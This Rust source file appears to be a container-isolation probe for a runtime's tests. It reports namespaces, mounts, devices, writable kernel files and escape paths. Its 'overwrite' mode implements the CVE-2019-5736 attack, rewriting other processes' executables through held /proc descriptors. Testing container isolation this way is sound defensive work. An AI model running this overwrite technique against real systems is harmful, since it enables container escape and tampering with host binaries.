//! What a container's process can see and reach, told from the inside as one JSON object on stdout.
//!
//! `probe report` looks; `probe overwrite SECONDS` attacks: it tries to write to the executable of every process it can
//! see (CVE-2019-5736), until the time is over or /tmp/stop is there. `probe notify WORD…` sends each word to NOTIFY_SOCKET
//! (sd_notify(3)) in turn, but waits for the file where one is `wait:FILE`. `probe measure COMMAND…` runs it and says how much
//! memory it had. Built static, so that it runs on any root filesystem.
#![forbid(unsafe_code)]
#![expect(
    clippy::disallowed_methods,
    clippy::print_stdout,
    reason = "a program of its own, not part of lodger: it opens what it likes, that being its purpose"
)]

use std::collections::BTreeMap;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use rustix::fs::{AtFlags, Mode, OFlags};
use rustix::process::Gid;
use serde_json::{Map, Value, json};

/// At most this many files are tried for writing beneath one directory.
const FILES: usize = 20_000;

fn main() -> ExitCode {
    // Taken first: everything below opens descriptors of its own.
    let descriptors = descriptors();
    let arguments: Vec<String> = std::env::args().collect();
    match arguments.get(1).map(String::as_str) {
        Some("report") => println!("{}", report(descriptors)),
        Some("overwrite") => {
            let seconds = arguments
                .get(2)
                .and_then(|text| text.parse().ok())
                .unwrap_or(5);
            overwrite(Duration::from_secs(seconds));
        }
        Some("notify") => return notify(&arguments[2..]),
        Some("measure") => return measure(&arguments[2..]),
        _ => return ExitCode::FAILURE,
    }
    ExitCode::SUCCESS
}

/// Runs a command, and adds the most memory that it, or a child of it, had to what it wrote to stderr.
fn measure(command: &[String]) -> ExitCode {
    use nix::sys::resource::{UsageWho, getrusage};
    let Some((program, arguments)) = command.split_first() else {
        return ExitCode::FAILURE;
    };
    let status = std::process::Command::new(program).args(arguments).status();
    let Ok(usage) = getrusage(UsageWho::RUSAGE_CHILDREN) else {
        return ExitCode::FAILURE;
    };
    let peak = format!("\npeak KiB: {}\n", usage.max_rss());
    let told = std::io::stderr().write_all(peak.as_bytes());
    match (told, status.map(|status| status.code())) {
        (Ok(()), Ok(Some(code))) => u8::try_from(code).map_or(ExitCode::FAILURE, ExitCode::from),
        _ => ExitCode::FAILURE,
    }
}

fn notify(words: &[String]) -> ExitCode {
    let Some(address) = std::env::var_os("NOTIFY_SOCKET") else {
        println!("no NOTIFY_SOCKET");
        return ExitCode::FAILURE;
    };
    println!("{}", address.display());
    let socket = std::os::unix::net::UnixDatagram::unbound();
    for word in words {
        if let Some(file) = word.strip_prefix("wait:") {
            while !Path::new(file).exists() {
                std::thread::sleep(Duration::from_millis(5));
            }
            continue;
        }
        let sent = socket
            .as_ref()
            .map(|s| s.send_to(word.as_bytes(), &address));
        if !matches!(sent, Ok(Ok(_))) {
            println!("{word}: {sent:?}");
            return ExitCode::FAILURE;
        }
    }
    ExitCode::SUCCESS
}

fn report(descriptors: Value) -> Value {
    let other: Vec<String> = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sysrq-trigger"]
        .iter()
        .flat_map(|path| writable_beneath(path))
        .collect();
    json!({
        "descriptors": descriptors,
        "namespaces": namespaces(),
        "status": colon_lines("/proc/self/status"),
        "maps": {
            "uid": text("/proc/self/uid_map"),
            "gid": text("/proc/self/gid_map"),
            "setgroups": text("/proc/self/setgroups").trim(),
        },
        "setgroups_works": rustix::thread::set_thread_groups(&[Gid::from_raw(1)]).is_ok(),
        "mounts": text("/proc/self/mountinfo").lines().collect::<Vec<_>>(),
        "devices": devices(Path::new("/dev")),
        "writable": {
            "proc_sys": writable_beneath("/proc/sys"),
            "proc_other": other,
            "sys": writable_beneath("/sys"),
            "root": can_create(Path::new("/.probe")),
        },
        "processes": processes(),
        "executables": executables(),
        "outside": outside(),
        "cwd": std::env::current_dir().map_or_else(|error| error.to_string(), |path| path.display().to_string()),
        "env": std::env::vars().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>(),
    })
}

fn text(path: &str) -> String {
    fs::read_to_string(path).unwrap_or_default()
}

/// `Name:\tvalue` lines as an object.
fn colon_lines(path: &str) -> Map<String, Value> {
    text(path)
        .lines()
        .filter_map(|line| line.split_once(':'))
        .map(|(name, value)| (name.to_string(), value.trim().into()))
        .collect()
}

/// The open descriptors and what they are, without the one that reads the directory.
fn descriptors() -> Value {
    let Ok(entries) = fs::read_dir("/proc/self/fd") else {
        return Value::Null;
    };
    let links: Map<String, Value> = entries
        .flatten()
        .filter_map(|entry| {
            let target = fs::read_link(entry.path()).ok()?;
            let name = entry.file_name().into_string().ok()?;
            let own = target.starts_with("/proc") && target.ends_with("fd");
            (!own).then(|| (name, target.display().to_string().into()))
        })
        .collect();
    links.into()
}

fn namespaces() -> Map<String, Value> {
    fs::read_dir("/proc/self/ns")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| {
            let target = fs::read_link(entry.path()).ok()?;
            Some((
                entry.file_name().into_string().ok()?,
                target.display().to_string().into(),
            ))
        })
        .collect()
}

/// Everything in /dev, without what devpts, mqueue and shm hold: path, kind, and for devices the number.
fn devices(directory: &Path) -> Map<String, Value> {
    let mut found = Map::new();
    for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
        let Ok(metadata) = entry.path().symlink_metadata() else {
            continue;
        };
        let kind = metadata.file_type();
        let number = || {
            let device = metadata.rdev();
            format!(
                "{}:{}",
                rustix::fs::major(device),
                rustix::fs::minor(device)
            )
        };
        let told = if kind.is_char_device() {
            format!("char {}", number())
        } else if kind.is_block_device() {
            format!("block {}", number())
        } else if kind.is_symlink() {
            format!(
                "link {}",
                fs::read_link(entry.path()).unwrap_or_default().display()
            )
        } else if kind.is_dir() {
            "directory".to_string()
        } else {
            "other".to_string()
        };
        found.insert(entry.path().display().to_string(), told.into());
    }
    found
}

/// The files beneath a path that can be opened for writing. Nothing is written, and links are not followed.
fn writable_beneath(path: &str) -> Vec<String> {
    let mut open = vec![PathBuf::from(path)];
    let mut writable = Vec::new();
    let mut seen = 0;
    while let Some(path) = open.pop() {
        seen += 1;
        let Ok(metadata) = path.symlink_metadata() else {
            continue;
        };
        if seen > FILES || metadata.is_symlink() {
            continue;
        }
        if metadata.is_dir() {
            if can_create(&path.join("probe")) {
                writable.push(path.display().to_string());
            }
            open.extend(
                fs::read_dir(&path)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .map(|entry| entry.path()),
            );
        } else if rustix::fs::open(
            &path,
            OFlags::WRONLY | OFlags::NONBLOCK | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .is_ok()
        {
            writable.push(path.display().to_string());
        }
    }
    writable
}

/// Whether a file can be made there; it is taken away again.
fn can_create(path: &Path) -> bool {
    let made = OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(path)
        .is_ok();
    if made {
        let _ = fs::remove_file(path);
    }
    made
}

/// The pids that can be seen.
fn processes() -> Vec<u32> {
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .collect()
}

/// The executable of each process, and whether it can be opened for writing.
fn executables() -> Map<String, Value> {
    processes()
        .into_iter()
        .filter_map(|pid| {
            let path = format!("/proc/{pid}/exe");
            let target = fs::read_link(&path).ok()?;
            let writable = OpenOptions::new().write(true).open(&path).is_ok();
            Some((
                pid.to_string(),
                json!({"target": target.display().to_string(), "writable": writable}),
            ))
        })
        .collect()
}

/// Magic links of visible processes from which `..` leads somewhere else than to our root.
fn outside() -> Vec<String> {
    let Ok(root) = rustix::fs::stat("/") else {
        return vec!["/ cannot be looked at".to_string()];
    };
    let up = "../".repeat(40);
    let mut found = Vec::new();
    for pid in processes() {
        let mut links = vec![format!("/proc/{pid}/cwd"), format!("/proc/{pid}/root")];
        let descriptors = fs::read_dir(format!("/proc/{pid}/fd"))
            .into_iter()
            .flatten()
            .flatten();
        links.extend(descriptors.map(|entry| entry.path().display().to_string()));
        for link in links {
            let path = format!("{link}/{up}");
            let Ok(top) = rustix::fs::statat(rustix::fs::CWD, &path, AtFlags::empty()) else {
                continue;
            };
            if (top.st_dev, top.st_ino) != (root.st_dev, root.st_ino) {
                found.push(link);
            }
        }
    }
    found
}

/// Tries to overwrite the executable of every other process, again and again: through a descriptor that was opened
/// while the process still ran it, since a running file cannot be opened for writing.
fn overwrite(limit: Duration) {
    let mut held = BTreeMap::new();
    let begin = Instant::now();
    // Whoever is there before the attack is told of is held.
    hold_executables(&mut held);
    let _ = fs::write("/tmp/attacking", "");
    println!("attacking");
    loop {
        // Looked at first: after the end of the others there is one more try.
        let last = begin.elapsed() > limit || Path::new("/tmp/stop").exists();
        hold_executables(&mut held);
        for descriptor in held.values() {
            let path = format!("/proc/self/fd/{}", descriptor.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
                let _ = file.write_all(b"#!/bin/sh\necho overwritten\n");
            }
        }
        if last {
            break;
        }
    }
    let _ = fs::write("/tmp/done", "");
}

/// Opens the executable of every other process, each file once.
fn hold_executables(held: &mut BTreeMap<(u64, u64), OwnedFd>) {
    let own = std::process::id();
    for pid in processes().into_iter().filter(|pid| *pid != own) {
        let path = format!("/proc/{pid}/exe");
        let Ok(file) = rustix::fs::open(&path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
        else {
            continue;
        };
        if let Ok(stat) = rustix::fs::fstat(&file) {
            held.entry((stat.st_dev, stat.st_ino)).or_insert(file);
        }
    }
}
